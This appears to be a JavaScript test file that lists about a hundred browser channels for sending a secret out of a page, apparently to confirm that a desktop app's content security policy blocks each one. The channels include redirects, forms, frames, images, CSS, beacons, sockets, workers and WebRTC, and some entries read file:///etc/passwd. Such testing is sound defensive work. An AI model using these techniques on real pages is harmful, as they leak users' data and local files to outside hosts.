// Ways out of the page, each a function of where somebody listens (without a scheme) and of what is to be told. What gives a
// promise is waited for.
const settled = (element, ...events) =>
    new Promise((done) => [...events, "error"].forEach((event) => element.addEventListener(event, done)));
/** Puts an element into the page, and gives it. */
const put = (name, attributes) => {
    const element = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
    document.body.append(element);
    return element;
};
/** What the content security policy refuses is said by an event of the document. */
const refused = () => new Promise((done) => document.addEventListener("securitypolicyviolation", done, { once: true }));
/** A few turns of the page: what is refused at once has been refused by then. */
const turns = async (left = 5) => {
    for (; left > 0; left -= 1) await new Promise((done) => setTimeout(done));
};
const click = (attributes) => {
    const link = put("a", attributes);
    link.click();
    link.remove();
    return turns();
};
const send = (attributes, secret) => {
    const form = put("form", attributes);
    const input = document.createElement("input");
    input.name = "q";
    input.value = secret;
    form.append(input);
    form.submit();
    form.remove();
    return turns();
};
/** A frame of the page's own origin, which has no policy of its own to go by but the page's. */
const within = (act) => {
    const frame = put("iframe", {});
    return Promise.resolve(act(frame.contentWindow, frame.contentDocument)).finally(() => frame.remove());
};
const load = (name, attributes, ...events) => {
    const element = put(name, attributes);
    return Promise.race([settled(element, "load", ...events), refused()]).finally(() => element.remove());
};
const style = (text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return turns();
};

const ways = {
    "location.href": (to, secret) => { location.href = `http://${to}/?q=${secret}`; return turns(); },
    "location.href, https": (to, secret) => { location.href = `https://${to}/?q=${secret}`; return turns(); },
    "location.replace": (to, secret) => { location.replace(`http://${to}/?q=${secret}`); return turns(); },
    "location.assign": (to, secret) => { location.assign(`http://${to}/?q=${secret}`); return turns(); },
    "a host of the page's scheme": () => { location.href = "tauri://elsewhere/"; return turns(); },
    "a file of the page's own": () => { location.href = "/flags.svg"; return turns(); },
    "ftp": (to) => { location.href = `ftp://${to}/`; return turns(); },
    "file": () => { location.href = "file:///etc/passwd"; return turns(); },
    "data": () => { location.href = "data:text/html,<p>not ours</p>"; return turns(); },
    "blob": () => { location.href = URL.createObjectURL(new Blob(["<p>not ours</p>"], { type: "text/html" })); return turns(); },
    "about:blank": () => { location.href = "about:blank"; return turns(); },
    "javascript": (to) => { location.href = `javascript:"<img src='http://${to}/'>"`; return turns(); },
    "tel": () => { location.href = "tel:+442079460101"; return turns(); },
    "the way to the program": () => { location.href = "ipc://localhost/touch"; return turns(); },
    "history": (to) => {
        try { history.pushState(null, "", `http://${to}/`); } catch { /* as it should */ }
        history.back();
        history.forward();
        history.go(-2);
        return turns();
    },
    "window.open": (to, secret) => { window.open(`http://${to}/?q=${secret}`); return turns(); },
    "window.open, named": (to, secret) => { window.open(`http://${to}/?q=${secret}`, "other", "noopener,width=100"); return turns(); },
    "window.open, empty": (to) => {
        const other = window.open("");
        if (other) other.location.href = `http://${to}/`;
        return turns();
    },
    "window.open, self": (to) => { window.open(`http://${to}/`, "_self"); return turns(); },
    "a link": (to, secret) => click({ href: `http://${to}/?q=${secret}` }),
    "a link, new window": (to, secret) => click({ href: `http://${to}/?q=${secret}`, target: "_blank" }),
    "a link, opener": (to, secret) => click({ href: `http://${to}/?q=${secret}`, target: "_blank", rel: "opener" }),
    "a link, top": (to, secret) => click({ href: `http://${to}/?q=${secret}`, target: "_top" }),
    "a link, download": (to, secret) => click({ href: `http://${to}/?q=${secret}`, download: "x.html" }),
    "a link, download of data": (_, secret) => click({ href: `data:text/plain,${secret}`, download: "told-data.txt" }),
    "a link, download of a blob": (_, secret) =>
        click({ href: URL.createObjectURL(new Blob([secret])), download: "told-blob.txt" }),
    "a link, download of our own": () => click({ href: "/index.html", download: "told-own.txt" }),
    "a link, ping": (to) => click({ href: "#here", ping: `http://${to}/` }).then(() => history.replaceState(null, "", "/")),
    "a link of SVG": (to) => {
        const svg = document.createElementNS("http://www.w3.org/2000/svg", "a");
        svg.setAttribute("href", `http://${to}/`);
        document.body.append(svg);
        svg.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
        svg.remove();
        return turns();
    },
    "an area of a picture": (to) => { put("area", { href: `http://${to}/` }).click(); return turns(); },
    "a form, GET": (to, secret) => send({ action: `http://${to}/`, method: "GET" }, secret),
    "a form, POST": (to, secret) => send({ action: `http://${to}/`, method: "POST" }, secret),
    "a form, new window": (to, secret) => send({ action: `http://${to}/`, method: "POST", target: "_blank" }, secret),
    "a form, to the page itself": (_, secret) => send({ action: "", method: "POST" }, secret),
    "a frame": (to) => load("iframe", { src: `http://${to}/` }),
    "a frame of data": (to) => load("iframe", { src: `data:text/html,<img src="http://${to}/">` }),
    "a frame of text": (to) => load("iframe", { srcdoc: `<img src="http://${to}/"><script src="http://${to}/"></script>` }),
    "a frame of a file": () => load("iframe", { src: "file:///etc/passwd" }),
    "a frame of a frame's own": (to) => within((frame) => { frame.location.href = `http://${to}/`; return turns(); }),
    "a picture in a frame": (to) => within((_, document) => {
        const image = document.createElement("img");
        image.src = `http://${to}/`;
        document.body.append(image);
        return turns();
    }),
    "what a frame fetches": (to) => within((frame) => frame.fetch(`http://${to}/`).catch(() => turns())),
    "what a frame is written": (to) => within((_, document) => {
        document.open();
        document.write(`<base href="http://${to}/"><img src="x"><link rel="stylesheet" href="y">`);
        document.close();
        return turns();
    }),
    "an object": (to) => load("object", { data: `http://${to}/` }),
    "an object of a kind": (to) => load("object", { data: `http://${to}/`, type: "application/pdf" }),
    "an embed": (to) => load("embed", { src: `http://${to}/`, type: "text/html" }),
    "a frame of old": (to) => {
        const set = put("frameset", {});
        const frame = document.createElement("frame");
        frame.src = `http://${to}/`;
        set.append(frame);
        return turns().then(() => set.remove());
    },
    "meta refresh": (to) => {
        const meta = put("meta", { "http-equiv": "refresh", content: `0;url=http://${to}/` });
        return turns().then(turns).then(() => meta.remove());
    },
    "a policy that reports": (to) => {
        const text = `img-src 'none'; report-uri http://${to}/; report-to http://${to}/`;
        const meta = document.createElement("meta");
        meta.httpEquiv = "Content-Security-Policy";
        meta.content = text;
        document.head.append(meta);
        return load("img", { src: `http://${to}/` });
    },
    "a picture": (to, secret) => load("img", { src: `http://${to}/?q=${secret}` }),
    "a set of pictures": (to) => load("img", { srcset: `http://${to}/a 1x, http://${to}/b 2x` }),
    "a picture of SVG": (to) => {
        const svg = document.createElementNS("http://www.w3.org/2000/svg", "image");
        svg.setAttribute("href", `http://${to}/`);
        const root = document.createElementNS("http://www.w3.org/2000/svg", "svg");
        root.append(svg);
        document.body.append(root);
        return turns().then(() => root.remove());
    },
    "a background": (to) => style(`body { background-image: url("http://${to}/"); }`),
    "a cursor": (to) => style(`body { cursor: url("http://${to}/"), auto; }`),
    "a font": (to) => {
        const face = new FontFace("other", `url("http://${to}/")`);
        return face.load().catch(() => undefined);
    },
    "a style": (to) => load("link", { rel: "stylesheet", href: `http://${to}/` }),
    "a style that brings another": (to) => {
        const sheet = put("style", {});
        sheet.textContent = `@import url("http://${to}/");`;
        return turns().then(() => sheet.remove());
    },
    "a script": (to) => load("script", { src: `http://${to}/` }),
    "a module": (to) => load("script", { src: `http://${to}/`, type: "module" }),
    "import": (to) => import(`http://${to}/`).catch(() => undefined),
    "a video": (to) => load("video", { src: `http://${to}/`, preload: "auto" }, "loadstart"),
    "a poster": (to) => load("video", { poster: `http://${to}/` }),
    "a sound": (to) => { const sound = new Audio(`http://${to}/`); return Promise.race([sound.play().catch(() => undefined), refused()]); },
    "subtitles": (to) => {
        const video = put("video", {});
        const track = document.createElement("track");
        Object.assign(track, { src: `http://${to}/`, default: true, kind: "subtitles" });
        video.append(track);
        track.track.mode = "showing";
        return turns().then(() => video.remove());
    },
    "a preconnection": (to) => { put("link", { rel: "preconnect", href: `http://${to}` }); return turns(); },
    "a preconnection, with credentials": (to) => { put("link", { rel: "preconnect", href: `http://${to}`, crossorigin: "use-credentials" }); return turns(); },
    "a look-up": (to) => { put("link", { rel: "dns-prefetch", href: `http://${to}` }); return turns(); },
    "a prefetch": (to) => { put("link", { rel: "prefetch", href: `http://${to}/` }); return turns(); },
    "a prerender": (to) => { put("link", { rel: "prerender", href: `http://${to}/` }); return turns(); },
    "a preload": (to) => load("link", { rel: "preload", as: "image", href: `http://${to}/` }),
    "a preload of a module": (to) => load("link", { rel: "modulepreload", href: `http://${to}/` }),
    "an icon": (to) => { put("link", { rel: "icon", href: `http://${to}/` }); return turns(); },
    "a manifest": (to) => { put("link", { rel: "manifest", href: `http://${to}/` }); return turns(); },
    "a fetch": (to, secret) => fetch(`http://${to}/`, { method: "POST", mode: "no-cors", body: secret }).catch(() => undefined),
    "a fetch that lives on": (to) => fetch(`http://${to}/`, { mode: "no-cors", keepalive: true }).catch(() => undefined),
    "a fetch of a file": () => fetch("file:///etc/passwd").then(() => { location.hash = "read"; }, () => undefined),
    "a request": (to) => {
        const request = new XMLHttpRequest();
        request.open("GET", `http://${to}/`);
        const done = settled(request, "load", "abort");
        request.send();
        return done;
    },
    "a request that is waited for": (to) => {
        const request = new XMLHttpRequest();
        try { request.open("GET", `http://${to}/`, false); request.send(); } catch { /* as it should */ }
    },
    "a socket": (to) => { const socket = new WebSocket(`ws://${to}/`); return settled(socket, "open", "close"); },
    "a stream of events": (to) => { const source = new EventSource(`http://${to}/`); return settled(source, "open").then(() => source.close()); },
    "a beacon": (to, secret) => { navigator.sendBeacon(`http://${to}/`, secret); return turns(); },
    "a worker": (to) => settled(new Worker(`http://${to}/`)),
    "a worker of a blob": (to) => {
        const text = `fetch("http://${to}/").then(() => postMessage(1), () => postMessage(2))`;
        const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
        return settled(worker, "message").then(() => worker.terminate());
    },
    "a shared worker": (to) => settled(new SharedWorker(`http://${to}/`)),
    "a service worker": (to) => navigator.serviceWorker?.register(`http://${to}/`).catch(() => undefined),
    "a connection between pages": (to) => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to}` }, { urls: `turn:${to}?transport=tcp`, username: "x", credential: "y" }] });
        connection.createDataChannel("x");
        return connection.createOffer().then((offer) => connection.setLocalDescription(offer)).then(turns);
    },
    "a transport": async (to) => { await new WebTransport(`https://${to}/`).ready.catch(() => undefined); },
    "a base": (to) => {
        const base = document.createElement("base");
        base.href = `http://${to}/`;
        document.head.append(base);
        return load("img", { src: "x.png" }).then(() => base.remove());
    },
    "a link that is dropped": (to) => {
        const data = new DataTransfer();
        data.setData("text/uri-list", `http://${to}/`);
        for (const kind of ["dragenter", "dragover", "drop"]) {
            document.body.dispatchEvent(new DragEvent(kind, { bubbles: true, cancelable: true, dataTransfer: data }));
        }
        return turns();
    },
    "a handler of a scheme": (to) => {
        try { navigator.registerProtocolHandler?.("web+tell", `http://${to}/?q=%s`); } catch { /* as it should */ }
        return turns();
    },
    "an end of the window": () => { window.close(); return turns(); },
    "a share": (to) => navigator.share?.({ url: `http://${to}/` }).catch(() => undefined),
    "an entity of XML": (to) => {
        new DOMParser().parseFromString(`<!DOCTYPE x SYSTEM "http://${to}/"><x/>`, "application/xml");
        const sheet = new DOMParser().parseFromString(
            `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://${to}/"/></xsl:stylesheet>`,
            "application/xml",
        );
        if (window.XSLTProcessor) new XSLTProcessor().importStylesheet(sheet);
        return turns();
    },
};
